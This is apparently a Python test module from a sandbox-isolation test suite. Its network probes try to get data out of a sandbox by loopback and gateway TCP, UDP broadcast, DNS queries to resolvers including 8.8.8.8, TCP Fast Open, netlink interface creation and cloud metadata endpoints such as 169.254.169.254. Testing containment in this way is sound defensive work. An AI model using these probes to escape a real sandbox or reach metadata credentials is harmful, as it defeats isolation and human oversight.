"""H: the network."""

# pylint: disable=wildcard-import,unused-wildcard-import,function-redefined
import time

from inside import *
from judge import host, leaks, value
from model import add, attack, not_applicable

NETWORK = "network"
NO_PROXY = "there is no egress proxy in this version"


add(
    "H01",
    "Exfil",
    "TCP to a service on the host's loopback",
    "ECONNREFUSED",
    leaks("tcp"),
    "return tcp_answers(['127.0.0.1', 'localhost', '0.0.0.0', '127.1.2.3'], P['tcp'])",
    group=NETWORK,
)
add(
    "H02",
    "Exfil",
    "TCP to a service on the host's loopback over IPv6",
    "ECONNREFUSED",
    leaks("tcp"),
    "return tcp_answers(['::1'], P['tcp6'])",
    group=NETWORK,
    control="may",
)


def heard_udp(evidence):
    time.sleep(0.1)
    said = evidence.stage.listeners["udp"].heard(evidence.row.id + evidence.extra["nonce"])
    return said, "the host received it" if said else str(evidence.value or evidence.refused)


def udp(addresses, setup=""):
    return (
        "message = (ROW + P['nonce']).encode(); client = socket.socket(2, 2); "
        + setup
        + f"return [attempt(address, lambda: client.sendto(message, (address, P['udp']))) for address in {addresses}]"
    )


add(
    "H04",
    "Exfil",
    "UDP datagram to the host",
    "ENETUNREACH / not received",
    host(heard_udp),
    udp("P['addresses'] + ['0.0.0.0']"),
    group=NETWORK,
)


@attack(
    "H05",
    "Exfil",
    "a route or an interface other than the loopback",
    "no route",
    value(lambda got: got, lambda got: "found: " + ", ".join(got)),
    group=NETWORK,
)
def _():
    names = [name for _, name in socket.if_nameindex() if name != "lo"]
    routes = [line.split()[0] for line in read("/proc/net/route").splitlines()[1:] if line.split()[0] != "lo"]
    return names + routes


for identity, title in (
    ("H07", "proxy: IP-literal CONNECT to loopback in every spelling"),
    ("H08", "proxy: cloud metadata endpoints"),
    ("H10", "proxy: absolute-URI host and Host header differ"),
    ("H11", "proxy: second request of a kept connection to another host"),
    ("H12", "proxy without or with a wrong token"),
    ("H16", "SOCKS5 DOMAINNAME with NUL, CRLF, an IP in it"),
):
    not_applicable(identity, "Exfil", title, NO_PROXY)


def resolved(evidence):
    names = [name for name in evidence.stage.listeners if name.startswith("dns")]
    heard = [name for name in names if evidence.stage.listeners[name].heard(evidence.extra["nonce"])]
    if heard:
        return True, "packets reached " + ", ".join(heard)
    answers = [one for one in evidence.value or [] if one[1] == "OK"]
    return bool(answers), str(answers or "no resolver")


@attack(
    "H14",
    "Exfil",
    "DNS: a resolver answers, or packets to port 53 leave",
    "no resolver in the network namespace",
    host(resolved),
    group=NETWORK,
    seconds=14,
    control="may",
)
def _():
    name = P["nonce"].encode()
    query = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0" + bytes([len(name)]) + name + b"\x07example\x03com\0\0\x01\0\x01"
    servers = [line.split()[1] for line in read("/etc/resolv.conf").splitlines() if line.startswith("nameserver")]
    got = []
    for server in servers[:2] + ["127.0.0.53", "127.0.0.1", "8.8.8.8", "1.1.1.1"]:

        def ask():
            client = socket.socket(2, 2)
            client.settimeout(1)
            client.sendto(query, (server, 53))
            client.recv(512)

        got.append(attempt(server, ask))
    return got


add(
    "H51",
    "Exfil",
    "TCP to the host by the addresses of its interfaces and gateways",
    "ENETUNREACH",
    leaks("tcp"),
    "return tcp_answers(P['addresses'] + ['172.17.0.1', '10.0.2.2', '192.168.122.1', 'host.docker.internal', "
    "'::ffff:127.0.0.1'], P['tcp'])",
    group=NETWORK,
    seconds=14,
)
add(
    "H52",
    "Exfil",
    "UDP by broadcast and multicast",
    "ENETUNREACH / not received",
    host(heard_udp),
    udp(
        "['255.255.255.255', '127.255.255.255', '224.0.0.1'] + [a.rsplit('.', 1)[0] + '.255' for a in P['addresses']]",
        "client.setsockopt(1, 6, 1); ",
    ),
    group=NETWORK,
)


@attack(
    "H53",
    "Exfil",
    "TCP Fast Open, a connect by sendto and by sendmsg",
    "ECONNREFUSED/ENETUNREACH",
    leaks("tcp"),
    group=NETWORK,
)
def _():
    got = []
    for address in P["addresses"]:
        client = socket.socket(2, 1)
        client.setsockopt(1, 20, struct.pack("ll", 2, 0))  # SO_RCVTIMEO
        try:
            client.sendto(b"x", 0x20000000, (address, P["tcp"]))  # MSG_FASTOPEN
            got.append(client.recv(100).decode())
        except OSError as error:
            got.append(str(error))
    return got


@attack(
    "H54",
    "Exfil",
    "bring up an interface of its own: veth, dummy, tun, by netlink and ioctl",
    "EPERM",
    value(lambda got: any(result == "OK" for _, result in got)),
    group=NETWORK,
    control="it would change the host's network",
)
def _():
    if P["host"]:
        return []
    client = socket.socket(2, 2)
    request = struct.pack("16sH14x", b"lo", 0x1)
    new_link = (
        struct.pack("IHHIIBxHiII", 32 + 16, 16, 0x605, 1, 0, 0, 0, 0, 0, 0)
        + struct.pack("HH", 16, 18 | 0x8000)
        + struct.pack("HH8s", 12, 1, b"dummy\0\0\0")
    )

    def link():
        wire = socket.socket(16, 3, 0)
        wire.bind((0, 0))
        wire.send(new_link)
        answer = wire.recv(4096)
        result = struct.unpack_from("i", answer, 16)[0]
        if result:
            raise OSError(-result, "netlink")

    return [attempt("flags", lambda: fcntl.ioctl(client, 0x8914, request)), attempt("dummy", link)]


add(
    "H55",
    "Exfil",
    "cloud metadata addresses: 169.254.169.254, fd00:ec2::254, 100.100.100.200",
    "ENETUNREACH",
    value(lambda got: any(result == "OK" for _, result in got)),
    "return [attempt(address, lambda: socket.create_connection((address, 80), timeout=1)) "
    "for address in ('169.254.169.254', 'fd00:ec2::254', '100.100.100.200', '168.63.129.16')]",
    group=NETWORK,
    seconds=8,
    control="may",
)
